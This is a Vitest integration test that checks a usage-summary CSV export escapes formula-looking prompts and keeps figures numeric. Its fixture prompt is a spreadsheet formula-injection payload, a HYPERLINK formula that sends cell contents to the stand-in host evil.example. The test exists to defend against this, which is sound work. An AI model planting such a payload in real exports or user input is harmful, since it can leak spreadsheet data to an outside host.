/**
 * The cost export through the route: a turn's label is its prompt, typed by whoever started the
 * conversation, and the dashboard's CSV is written from GET /api/usage/summary's answer. A prompt
 * that looks like a spreadsheet formula comes out as text (prefixed with `'`), numbers as numbers.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { summaryCsv } from "@/components/costs/costs-model";
import { callRoute } from "@/lib/api/testing/call-route";
import { seedStudio } from "@/lib/db/seed-demo";
import { createTestDatabase, type TestDatabase } from "@/lib/db/testing/test-database";
import { DEMO_SEED_STEPS } from "@/lib/demo/demo-steps";
import * as conversations from "../../conversations/route";
import * as messages from "../../conversations/[id]/messages/route";
import * as summary from "./route";

let t: TestDatabase;
const ADMIN = "usage-csv-int-admin-token-0123456789";
const savedEnv = { ...process.env };
const PROMPT = '=HYPERLINK("https://evil.example/?"&A1,"Population of Paris")';

beforeAll(async () => {
  t = await createTestDatabase();
  process.env.ATELIER_ADMIN_TOKEN = ADMIN;
  await seedStudio(t.db, DEMO_SEED_STEPS, { demo: true });
});
afterAll(async () => {
  process.env = savedEnv;
  await t?.cleanup();
});

describe("the cost export (CSV)", () => {
  it("writes a formula-looking prompt as text, and the figures as numbers", async () => {
    const atlas = await t.db.agent.findFirstOrThrow({ where: { name: "atlas" } });
    const c = await callRoute(conversations.POST, "/api/conversations", { body: { agentId: atlas.id }, bearer: ADMIN });
    expect(c.status).toBe(201);
    const sent = await callRoute(messages.POST, `/api/conversations/${c.json.id}/messages`, {
      params: { id: c.json.id },
      body: { content: PROMPT },
      bearer: ADMIN,
    });
    expect(sent.status).toBe(200);

    const res = await callRoute(summary.GET, "/api/usage/summary?groupBy=run", { bearer: ADMIN });
    expect(res.status, JSON.stringify(res.json)).toBe(200);
    expect(res.json.rows[0].label).toBe(PROMPT);
    const lines = summaryCsv(res.json).trimEnd().split("\r\n");
    const turn = lines.find((l) => l.includes("HYPERLINK"))!;
    expect(turn.startsWith(`"'=HYPERLINK(""https://evil.example/?""&A1,""Population of Paris"")",`)).toBe(true);
    // No cell of the export starts with a formula character unless it is a number.
    const cells = lines.flatMap((l) => l.match(/("([^"]|"")*"|[^,]*)(?=,|$)/g) ?? []);
    const unquoted = cells.map((cell) => cell.replace(/^"|"$/g, ""));
    expect(unquoted.filter((cell) => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)))).toEqual([]);
    const total = lines.at(-1)!.split(",");
    expect(total[0]).toBe("Total");
    expect(Number(total[total.indexOf("total") + 5])).toBeGreaterThan(0); // requests, a number
  });
});
